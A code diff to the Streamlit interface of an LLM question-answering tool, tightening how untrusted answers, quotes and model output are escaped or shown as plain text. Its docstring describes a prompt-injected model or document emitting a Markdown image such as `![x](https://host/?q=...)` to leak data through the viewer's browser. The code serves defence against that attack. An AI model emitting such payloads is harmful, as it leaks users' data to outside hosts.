@@ -10,6 +10,7 @@ from datetime import datetime
 from typing import Literal, NoReturn
 
 import streamlit as st
+from streamlit.delta_generator import DeltaGenerator
 
 from core.auth import SINGLE_USER, Actor, AuthConfig, require
 from core.chain import AnswerResult, AskEvent, Source
@@ -31,9 +32,13 @@ CONFIDENCE_ICONS = {
     "low": ":material/warning:",
 }
 VERDICT_LABELS = {"supports": "Supports", "does_not_support": "Does not support"}
-# Every ASCII punctuation character: CommonMark lets each be escaped with a backslash, and
-# escaped, none of them starts Markdown, HTML, LaTeX or a Streamlit directive.
-_PUNCTUATION = re.compile(r"([!-/:-@\[-`{-~])")
+# The characters that open Markdown, HTML, LaTeX or Streamlit-directive syntax anywhere in a
+# line (escaped with a backslash, as CommonMark allows for any ASCII punctuation), and a colon
+# that starts a word (`:material/icon:`, `:smile:`). `!`, `(` and `)` need no escape once `[`
+# has one: no image or link can form. Other punctuation stays as it is, readable.
+_MARKUP = re.compile(r"([\\`*_~\[\]<>&#|$]|:(?=\w))")
+# What opens a list, a heading underline or a rule only at the start of a line.
+_LINE_START = re.compile(r"^([ \t]*)(?:([-+=])|(\d+)([.)]))", re.MULTILINE)
 # Where GitHub-flavoured Markdown turns plain text into a link *after* escapes are resolved
 # (Streamlit's renderer matches `https?://`, `www.` and `name@host` in text nodes): a word
 # joiner (U+2060, invisible) is put there so no pattern matches.
@@ -111,26 +116,33 @@ def load_samples(loupe: Loupe, actor: Actor) -> None:
 
 
 def inert(text: object) -> str:
-    """Untrusted text (answers, quotes, questions, notices, names, headings, comments) as
-    Markdown that Streamlit shows exactly as written: no image is loaded, no link is live, no
-    formatting, HTML, LaTeX or `:directive[...]` applies. Every string from documents, users or
-    the LLM server goes through this before any Streamlit call that reads Markdown (bodies,
-    labels, captions, toasts, notices).
+    """Untrusted text (answers, quotes, questions, notices, names, headings, comments, the
+    LLM server's error messages) as Markdown that Streamlit shows exactly as written: no image
+    is loaded, no link is live, no formatting, HTML, LaTeX or `:directive[...]` applies.
 
-    Escaping rather than sanitising: an answer that shows its Markdown as typed loses some
-    formatting, but nothing a document or a prompt-injected model writes can make a viewer's
-    browser fetch a URL (the exfiltration channel) or show a link to click. Line breaks are
-    kept as hard breaks, and leading spaces as no-break spaces (else an indented line would
-    become a code block, which shows escapes literally)."""
+    Every untrusted string goes through this before any Streamlit call that reads Markdown
+    (labels, captions, toasts, notices, subheaders); blocks of it go through `show_text`.
+    Escaping rather than sanitising: nothing a document or a prompt-injected model writes can
+    make a viewer's browser fetch a URL (the exfiltration channel, `![x](https://host/?q=...)`)
+    or show a link to click. Line breaks are kept as hard breaks, and leading spaces as no-break
+    spaces (an indented line would otherwise become a code block, which shows escapes)."""
     body = _AUTOLINK.sub(_WORD_JOINER, str(text).replace("\r\n", "\n").replace("\r", "\n"))
-    body = _PUNCTUATION.sub(r"\\\1", body)
+    body = _MARKUP.sub(r"\\\1", body)
+    body = _LINE_START.sub(_escape_line_start, body)
     body = _LEADING_SPACE.sub(lambda m: "\u00a0" * len(m.group().expandtabs(4)), body)
     return body.replace("\n", "  \n")
 
 
-def show_text(text: object) -> None:
-    """Untrusted text as a block of its own, through `inert`."""
-    st.markdown(inert(text))
+def _escape_line_start(match: re.Match[str]) -> str:
+    indent, mark, number, delimiter = match.groups()
+    return f"{indent}\\{mark}" if mark else f"{indent}{number}\\{delimiter}"
+
+
+def show_text(text: object, container: DeltaGenerator | None = None) -> None:
+    """A block of untrusted text (an answer, a quote, a question, a comment), shown through
+    `st.text`, which parses nothing (no Markdown, no HTML) and keeps line breaks: the text is
+    shown and copied exactly as written, and no part of it can load or link anything."""
+    (container or st).text(str(text))
 
 
 def confidence_badge(result: AnswerResult) -> None:
@@ -257,7 +269,7 @@ def stream_answer(events: Iterator[AskEvent]) -> AnswerResult:
             shown, text = st.empty(), ""
             for token in stream.tokens():
                 text += token
-                shown.markdown(inert(text))
+                show_text(text, shown)
         if stream.result is None and not stream.was_reset:
             raise RuntimeError("The answer stream ended without a result.")
     box.empty()
